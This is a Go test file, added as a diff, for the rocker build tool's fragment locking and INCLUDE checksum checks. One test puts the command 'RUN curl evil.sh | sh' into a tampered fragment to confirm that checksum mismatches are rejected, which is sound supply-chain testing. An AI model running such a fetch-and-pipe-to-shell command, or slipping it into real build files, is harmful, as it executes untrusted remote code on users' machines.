@@ -0,0 +1,137 @@
+/*-
+ * Copyright 2015 Grammarly, Inc.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package build
+
+import (
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/grammarly/rocker/src/dockerclient"
+	"github.com/grammarly/rocker/src/template"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParseFragmentRef(t *testing.T) {
+	ref, err := ParseFragmentRef("acme/base@v1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, FragmentRef{Name: "acme/base", Version: "v1"}, ref)
+	assert.Equal(t, "acme/base@v1", ref.String())
+	assert.Equal(t, "quay.io/acme-rockerfiles/acme/base:v1", ref.Image("quay.io/acme-rockerfiles/"))
+	assert.Equal(t, "acme/base:v1", ref.Image(""))
+
+	for _, invalid := range []string{"acme/base", "acme/base@", "@v1", "Acme/base@v1", "../base@v1", "acme/base@v1/x"} {
+		_, err := ParseFragmentRef(invalid)
+		assert.Error(t, err, invalid)
+	}
+}
+
+func fragmentsTestDir(t *testing.T) (string, func()) {
+	tmpDir, err := ioutil.TempDir("", "rocker-fragments-test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tmpDir, func() { os.RemoveAll(tmpDir) }
+}
+
+func TestGetFragment(t *testing.T) {
+	tmpDir, cleanup := fragmentsTestDir(t)
+	defer cleanup()
+
+	dir := filepath.Join(tmpDir, FragmentsDir)
+	ref := FragmentRef{Name: "acme/base", Version: "v1"}
+	content := []byte("RUN apk add --no-cache {{ .Packages }}\n")
+
+	pulled := []string{}
+	pull := func(image string) (dockerclient.OCIArtifact, error) {
+		pulled = append(pulled, image)
+		return dockerclient.OCIArtifact{Content: content}, nil
+	}
+
+	locked, err := GetFragment(ref, "quay.io/acme", dir, false, pull)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, LockedFragment{Image: "quay.io/acme/acme/base:v1", Checksum: includeSum(content)}, locked)
+
+	lock, err := LoadFragmentLock(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, locked, lock.Fragments["acme/base@v1"])
+	assert.Equal(t, []FragmentRef{ref}, lock.Refs())
+
+	// the locked fragment comes from the image of the lock and has to match it
+	content = []byte("RUN curl evil.sh | sh\n")
+	_, err = GetFragment(ref, "quay.io/other", dir, false, pull)
+	if assert.Error(t, err) {
+		assert.Contains(t, err.Error(), "Checksum mismatch for fragment acme/base@v1")
+		assert.Equal(t, ExitPolicy, ExitCode(err))
+	}
+	assert.Equal(t, []string{"quay.io/acme/acme/base:v1", "quay.io/acme/acme/base:v1"}, pulled)
+
+	// --update takes the new one
+	locked, err = GetFragment(ref, "quay.io/other", dir, true, pull)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, "quay.io/other/acme/base:v1", locked.Image)
+	assert.Equal(t, includeSum(content), locked.Checksum)
+}
+
+func TestRockerfile_IncludeFragment(t *testing.T) {
+	tmpDir, cleanup := fragmentsTestDir(t)
+	defer cleanup()
+
+	dir := filepath.Join(tmpDir, FragmentsDir)
+	pull := func(image string) (dockerclient.OCIArtifact, error) {
+		return dockerclient.OCIArtifact{Content: []byte("RUN apk add --no-cache {{ .Packages }}\n")}, nil
+	}
+	if _, err := GetFragment(FragmentRef{Name: "acme/base", Version: "v1"}, "", dir, false, pull); err != nil {
+		t.Fatal(err)
+	}
+
+	name := filepath.Join(tmpDir, "Rockerfile")
+	src := "FROM alpine\nINCLUDE acme/base@v1\n"
+
+	r, err := NewRockerfile(name, strings.NewReader(src), template.Vars{"Packages": "curl"}, template.Funs{}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, "FROM alpine\nRUN apk add --no-cache curl\n", r.Content)
+
+	_, err = NewRockerfile(name, strings.NewReader("FROM alpine\nINCLUDE acme/base@v2\n"), template.Vars{}, template.Funs{}, nil)
+	if assert.Error(t, err) {
+		assert.Contains(t, err.Error(), "get it with `rocker get acme/base@v2`")
+	}
+
+	// the vendored file was changed after `rocker get`
+	if err := ioutil.WriteFile(filepath.Join(dir, "acme", "base@v1.Rockerfile"), []byte("RUN make\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	_, err = NewRockerfile(name, strings.NewReader(src), template.Vars{}, template.Funs{}, nil)
+	if assert.Error(t, err) {
+		assert.Contains(t, err.Error(), fmt.Sprintf("Checksum mismatch for INCLUDE acme/base@v1, %s locks", FragmentsLockFile))
+		assert.Equal(t, ExitPolicy, ExitCode(err))
+	}
+}